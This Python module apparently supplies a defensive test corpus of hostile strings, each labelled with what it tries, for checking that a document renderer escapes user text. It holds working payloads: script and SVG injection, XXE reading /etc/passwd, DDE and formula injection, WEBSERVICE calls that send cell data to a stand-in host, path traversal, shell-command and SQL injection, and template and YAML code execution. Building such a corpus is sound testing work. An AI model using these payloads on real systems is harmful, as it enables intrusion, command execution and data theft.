"""Two hundred texts that harm a program which takes typed words for code, each with what it tries."""

from __future__ import annotations

from dataclasses import dataclass

_HIT = "window.__hit=1"  # what a script leaves behind when it ran
_FAR = "//far.invalid/x"  # an address that nobody answers (RFC 2606)


@dataclass(frozen=True, slots=True)
class Hostile:
    """A text, its kind, and what it tries."""

    kind: str
    text: str
    reason: str


_HTML = (
    (f"<script>{_HIT}</script>", "a script element"),
    (f"</td></tr></table><script>{_HIT}</script>", "ends the table, then a script"),
    (f"</title><script>{_HIT}</script>", "ends the title of the page"),
    (f"</textarea><script>{_HIT}</script>", "ends a text box"),
    (f"<SCRIPT SRC={_FAR}.js></SCRIPT>", "a script of another host, capitals, no quotes"),
    (f"<scr<script>ipt>{_HIT}</scr</script>ipt>", "survives a filter that cuts once"),
    (f"<img src=x onerror={_HIT}>", "a picture that fails"),
    (f"<img src='{_FAR}.png'>", "a picture of another host"),
    (f"<svg onload={_HIT}>", "a drawing element in a page"),
    ("<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>", "a page in the page"),
    (f"<iframe src={_FAR}></iframe>", "a page of another host"),
    (f"<object data={_FAR}></object><embed src={_FAR}>", "plug-in elements"),
    (f"<link rel=stylesheet href={_FAR}.css>", "a style sheet of another host"),
    (f"<meta http-equiv=refresh content='0;url={_FAR}'>", "sends the reader away"),
    (f"<base href={_FAR}/>", "moves every relative address"),
    (f"<form action={_FAR}><input name=code></form>", "asks for an access code"),
    (f"<details open ontoggle={_HIT}>x</details>", "handler without a click"),
    (f"<noscript><p title='</noscript><img src=x onerror={_HIT}>'>", "parsed anew when read as source"),
    (f"<template><script>{_HIT}</script></template>", "held back, then cloned"),
    ("<!-- a comment that never ends", "hides the rest of the page"),
    (f"--><script>{_HIT}</script><!--", "ends a comment"),
    ("<plaintext>", "everything below becomes text"),
    ("<b>bold</b> & <i>not</i>", "harmless marks, still no marks of ours"),
    ("<", "one sign alone"),
    ("</body></html>", "ends the page"),
)  # fmt: skip
_ATTRIBUTE = (
    (f'" onmouseover="{_HIT}', "ends a double-quoted attribute"),
    (f"' onfocus='{_HIT}' autofocus='", "ends a single-quoted attribute"),
    (f'"><script>{_HIT}</script>', "ends attribute and element"),
    (f"` onload=`{_HIT}", "quotes of an old browser"),
    (f"x onclick={_HIT} y=", "an attribute without quotes"),
    (f'x" style="background:url({_FAR})', "an address in a style"),
    (f'x" srcset="{_FAR} 2x', "an address in a set of pictures"),
    ('x" id="top', "an id that is there already"),
    ("expression(alert(1))", "a style that computes"),
    ("@import 'http://far.invalid/x.css';", "a rule of a style sheet"),
)  # fmt: skip
_ENTITY = (
    (f"&lt;script&gt;{_HIT}&lt;/script&gt;", "escaped once: must not be undone"),
    (f"&#60;script&#62;{_HIT}&#60;/script&#62;", "decimal references"),
    ("&#x3c;b&#x3e;", "hexadecimal references"),
    ("&undefined; &#xD800; &#0; &#x110000;", "references that no parser may take"),
    ("AT&T &copy &notit; R&D", "names without their sign"),
    ("\\u003cscript\\u003e \\x3cb\\x3e \\74b\\76", "escapes of program text as typed"),
    ("%3Cscript%3E%22%27", "escapes of an address as typed"),
    ("+ADw-script+AD4-", "UTF-7"),
)  # fmt: skip
_REST = (
    (f".. raw:: html\n\n   <script>{_HIT}</script>", "raw output"),
    (".. include:: /etc/passwd", "a file of the machine"),
    (".. literalinclude:: ../../inventory.xlsx", "a file of the project"),
    (".. csv-table::\n   :file: /etc/passwd", "a file as table"),
    (".. image:: http://far.invalid/x.png", "a picture of another host"),
    (".. code-block:: python\n\n   import os", "a block of code"),
    (".. toctree::\n   :glob:\n\n   *", "changes the order of documents"),
    (".. only:: never", "hides what follows"),
    (".. |x| replace:: y", "a substitution"),
    ("|release| |today| |version|", "substitutions that are there"),
    (":download:`x </etc/passwd>`", "copies a file out"),
    (":raw-html:`<b>`", "a role of raw output"),
    (":doc:`/index` :ref:`search` :term:`x`", "references"),
    (":math:`\\frac{1}{0}`", "a formula"),
    ("`x <javascript:alert(1)>`__", "a link that runs"),
    ("`text`_ word_ [1]_ [#]_ |sub|_", "references that lead nowhere"),
    ("**bold** *slanted* ``code``", "marks of emphasis"),
    ("**never ended *nor this ``nor that", "marks that never end"),
    ("Heading\n=======", "a section"),
    ("::\n\n  literal", "a literal block"),
    ("* one\n* two\n\n#. three", "lists"),
    ("+---+---+\n| a | b |\n+---+---+", "a table"),
    (".. _label: http://far.invalid/", "a named target"),
    (".. binder-document:: front", "a directive of our own"),
    ("\\*not\\_escaped\\\\", "backslashes of that markup"),
)  # fmt: skip
_TYPST = (
    ('#eval("1+1")', "code that runs code"),
    ('#read("/etc/passwd")', "a file of the machine"),
    ('#include "template.typ"', "a file of the package"),
    ('#import "@preview/cetz:0.2.0": *', "a package of the network"),
    ('#image("/etc/hosts")', "a picture"),
    ("#panic()", "stops the typesetting"),
    ("#set page(width: 1pt)", "changes the sheet"),
    ("#show: it => none", "hides everything"),
    ("#{ while true {} }", "never ends"),
    ('#link("javascript:alert(1)")[x]', "a link that runs"),
    ("#pagebreak() #v(100cm)", "moves what follows"),
    ("#", "the sign alone"),
    ("] #h(1cm) [", "ends a block of content"),
    ("$ x^2 $ and $ never ended", "a formula"),
    ("*bold* _slanted_ `raw` ~ -- ---", "marks and short forms"),
    ("= Heading", "a heading"),
    ("- list\n+ list\n/ term: list", "lists"),
    ("<label> @label", "a label and its reference"),
    ("/* comment", "hides the rest"),
    ("```\nfence", "a fence that never ends"),
    ("\\u{202e}\\#", "escapes of that markup"),
    ('"); panic(("', "ends a string of code"),
)  # fmt: skip
_XML = (
    (f"]]><script>{_HIT}</script><![CDATA[", "ends a section of raw text"),
    ("<![CDATA[<b>]]>", "a section of raw text"),
    ("<?php echo 1 ?>", "an instruction"),
    ('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;', "an outer entity"),
    ('<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>&b;', "entities that grow"),
    (f"</text></g></svg><script>{_HIT}</script>", "ends the drawing"),
    (f"</text><foreignObject><body onload={_HIT}/></foreignObject>", "a page in the drawing"),
    (f"</tspan><a href='javascript:{_HIT}'><tspan>", "a link in the drawing"),
    (f"<image href='{_FAR}.png'/><use href='{_FAR}#a'/>", "parts of another host"),
    (f"<animate onbegin={_HIT} attributeName=x dur=1s>", "a handler of a movement"),
    ("url(#clip) url(http://far.invalid/)", "an address as a paint"),
    ("</t></is></c><c r='A1'><f>1+1</f></c>", "a cell of its own in the workbook"),
    ("<f>1+1</f>", "a formula element"),
    ("</si></sst>", "ends the strings of the workbook"),
    ("_x0041_ _x003C_b_x003E_ _x005F_", "escapes of workbook texts as typed"),
    ("&apos;&quot;&lt;&gt;&amp;", "the five names of XML"),
)  # fmt: skip
_SPREADSHEET = (
    ("=1+1", "a formula"),
    ("=cmd|' /C calc'!A0", "a command by dynamic data exchange"),
    ('=HYPERLINK("http://far.invalid/?"&A1,"report")', "sends a cell away on a click"),
    ('=WEBSERVICE("http://far.invalid/"&A1)', "sends a cell away"),
    ('=DDE("cmd";"/C calc";"x")', "the same in another program"),
    ("='file:///etc/passwd'#$passwd.A1", "a line of a file of the machine"),
    ("+1+cmd|' /C calc'!A0", "a formula that begins with plus"),
    ("-1+cmd|' /C calc'!A0", "a formula that begins with minus"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "a formula of an older program"),
    ("-K1:13", "a designation that looks like one"),
    ("=A1+B2-K1", "a designation of place and device"),
    ("\t=1+1", "a tab before it"),
    ("\r=1+1", "a carriage return before it"),
    ("\n=1+1", "a line break before it"),
    (" =1+1", "a blank before it"),
    ("\u200b=1+1", "a sign that nobody sees before it"),
    ("＝1+1", "wide signs, formulas in Japanese programs"),
    ("＋1 －1 ＠SUM", "wide signs of the others"),
    ("x;=1+1;y", "a new cell where semicolons part them"),
    ("x,=1+1,y", "a new cell where commas part them"),
    ("x\t=1+1", "a new cell where tabs part them"),
    ('x",=1+1,"y', "ends a quoted cell"),
    ('""=1+1', "two quotes, then a formula"),
    ("x\n=1+1\ny", "a new row"),
    ("'=1+1", "the mark of a text, typed"),
    ("''", "two marks of a text"),
    ("#REF!", "an error value"),
    ("#N/A", "another error value"),
    ("1e5", "a text that turns into a number"),
    ("0012", "zeros that get lost"),
    ("2026-05-04", "a text that turns into a day"),
    ("TRUE", "a text that turns into a truth value"),
)  # fmt: skip
_JSON = (
    (f"</script><script>{_HIT}</script>", "ends the data in the page"),
    (f"<!--<script>{_HIT}//", "keeps the data from ending"),
    (f'"}};{_HIT};//', "ends an object"),
    (f"';{_HIT};'", "ends a string"),
    (f"\\';{_HIT};//", "a backslash before the quote"),
    (f"${{{_HIT}}}", "a template string"),
    ("\u2028alert(1)\u2029", "line ends of a script"),
    ('{"__proto__": {"x": 1}}', "changes every object"),
    ("\\u0022\\u005c", "escapes as typed"),
    ("\\", "one backslash"),
)  # fmt: skip
_ADDRESS = (
    ("javascript:alert(1)", "a link that runs"),
    (" jAvAsCrIpT:alert(1)", "the same in other letters"),
    ("data:text/html,<script>alert(1)</script>", "a page as address"),
    ("file:///etc/passwd", "a file of the machine"),
    ("http://far.invalid/x", "an address: text, not a link"),
    ("//far.invalid/x", "an address without a scheme"),
    ("mailto:x@far.invalid?body=y", "a letter"),
    ("\\\\far.invalid\\share", "a share that is asked for a password"),
)  # fmt: skip
_PATH = (
    ("../../etc/passwd", "out of the folder"),
    ("..\\..\\windows\\win.ini", "the same on Windows"),
    ("/etc/passwd", "from the root"),
    ("C:\\windows\\win.ini", "from a drive"),
    ("NUL", "a device of Windows"),
    ("x.pdf:stream", "a stream beside a file"),
    ("~/.ssh/id", "the folder of a person"),
)  # fmt: skip
_SIGNS = (
    ("\u202egnp.exe", "text that runs backwards"),
    ("a\u2067b\u2069c", "a run in the other direction"),
    ("a\u200bb\u200cc\u200dd\u2060e\ufefff", "signs of no width"),
    ("x\u00adyz", "a soft hyphen"),
    ("\u200f\u200e", "marks of direction alone"),
    ("\U000e0041\U000e0042", "tags that nobody sees"),
    ("a\x7fb", "delete"),
    ("a\x9b31mb", "a command to the terminal, one byte"),
    ("a\x85b", "next line"),
    ("\\x1b[31m \\033]0;x\\007", "commands to the terminal as typed"),
    ("\\ud800 \\x00", "half a pair and a zero as typed"),
    ("\ufffd\ufffc", "signs of replacement"),
    ("\ue000\uf8ff", "signs without a meaning"),
    ("Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309", "marks in a pile"),
    ("\u05e9\u05dc\u05d5\u05dd \u0633\u0644\u0627\u0645", "words that run from the right"),
)  # fmt: skip
_OTHER = (
    ("{{7*7}} {% for x in y %}", "a template of pages"),
    ("{{ cycler.__init__.__globals__ }}", "the inside of such a template"),
    ("${7*7} #{7*7} <%= 7*7 %>", "other templates"),
    ("%s %n %d %(x)s %", "places of a format"),
    ("{0} {x.__class__} {", "places of another format"),
    ("\\input{/etc/passwd}\\write18{ls}", "LaTeX"),
    ("$(touch hit) `touch hit`", "a shell in a shell"),
    ("; touch hit #", "the next command of a shell"),
    ("| touch hit & touch hit", "other ways to the next command"),
    ("'; DROP TABLE drives; --", "a database"),
    ("__import__('os').system('x')", "Python"),
    ("!!python/object/apply:os.system [x]", "YAML"),
    ("[x](javascript:alert(1)) ![y](http://far.invalid/)", "Markdown"),
    ("\\1 \\g<0> $1 $&", "places of a replacement"),
    (".*(a+)+$", "a pattern"),
    ("&L&F&A&[Tab]", "codes of a spreadsheet's foot"),
    ("-rf", "an option of a command"),
    ("None", "a word of the program"),
    ("LONG " * 36 + "end", "a long text"),
    ("W" * 199, "a word without a place to break"),
    ("<" * 150, "a long text that grows when escaped"),
    ("{" * 60, "brackets that are never closed"),
)  # fmt: skip

CORPUS: tuple[Hostile, ...] = tuple(
    Hostile(kind, text, reason)
    for kind, texts in {
        "HTML": _HTML, "attribute": _ATTRIBUTE, "entity": _ENTITY, "reST": _REST, "Typst": _TYPST, "XML": _XML,
        "spreadsheet": _SPREADSHEET, "JSON": _JSON, "address": _ADDRESS, "path": _PATH, "signs": _SIGNS,
        "other": _OTHER,
    }.items()
    for text, reason in texts
)  # fmt: skip
